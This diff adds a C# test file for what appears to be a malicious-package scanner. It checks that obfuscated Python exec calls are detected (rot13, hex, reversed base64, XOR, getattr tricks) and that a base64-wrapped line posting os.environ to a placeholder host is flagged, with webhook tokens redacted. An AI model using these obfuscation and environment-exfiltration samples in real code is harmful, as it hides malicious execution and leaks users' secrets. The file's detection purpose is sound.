@@ -1,0 +1,53 @@
+using System.Security.Cryptography;
+using System.Text;
+using Moat.Analysis.Code;
+
+namespace Moat.Analysis.Tests.Code;
+
+public class DeobfuscationTests
+{
+    private static ScanResult ScanSource(string source, string name = "setup.py")
+    {
+        var dir = Directory.CreateTempSubdirectory("moat-code-");
+        try
+        {
+            File.WriteAllText(Path.Combine(dir.FullName, name), source);
+            return PackageScanner.Scan(Path.Combine(dir.FullName, name));
+        }
+        finally { dir.Delete(recursive: true); }
+    }
+
+    [Theory]
+    [InlineData("exec(''.join(chr(c) for c in [112,114,105,110,116,40,49,41]))", "")]
+    [InlineData("import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))", "rot13")]
+    [InlineData("exec(bytes.fromhex('7072696e74283129').decode())", "hex")]
+    [InlineData("from base64 import b64decode as d\nx = 'KTEodG5pcnA='[::-1]\nexec(d(x))", "reverse → base64")]
+    [InlineData("k=7\nexec(''.join(chr(ord(c) ^ k) for c in 'wunis/6.'))", "")]
+    [InlineData("g = getattr(__builtins__, 'ex' + 'ec')\ng(__import__('base64').b64decode('cHJpbnQoMSk='))", "base64")]
+    [InlineData("def dec(s):\n    out = ''\n    for ch in s:\n        out += chr(ord(ch) - 1)\n    return out\nexec(dec('qsjou)2*'))", "")]
+    public void Obfuscated_exec_is_seen_through(string source, string chain)
+    {
+        var result = ScanSource(source);
+        var finding = result.Findings.FirstOrDefault(f => f.RuleId == ThreatRules.DecodeExec.Id);
+        Assert.True(finding is not null || result.Findings.Any(f => f.RuleId == ThreatRules.ObfuscatedCall.Id), string.Join(" | ", result.Findings.Select(f => f.RuleId + " " + f.Message)));
+        if (chain.Length > 0) Assert.Contains(chain, finding!.Message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_decoded_layer_is_scanned_with_its_chain_in_the_evidence()
+    {
+        var payload = Convert.ToBase64String(Encoding.ASCII.GetBytes("import requests, os\nrequests.post('https://x.example.invalid', data=dict(os.environ))\n"));
+        var result = ScanSource($"import base64\nexec(base64.b64decode('{payload}'))\n");
+        var exfil = Assert.Single(result.Findings, f => f.RuleId == ThreatRules.HarvestExfil.Id);
+        Assert.Equal(2, exfil.Location.Line);
+        Assert.StartsWith("base64 → exec: requests.post(", exfil.Evidence, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Webhook_tokens_are_redacted_in_evidence()
+    {
+        var result = ScanSource("import requests\nrequests.post('https://discord.com/api/webhooks/1234567890/SECRETSECRETSECRETSECRETSECRET1234', json={})\n", "mod.py");
+        Assert.All(result.Findings, f => Assert.DoesNotContain("SECRETSECRETSECRETSECRETSECRET1234", f.Evidence ?? f.Message, StringComparison.Ordinal));
+        Assert.Contains(result.Findings, f => f.RuleId == ThreatRules.Webhook.Id);
+    }
+}
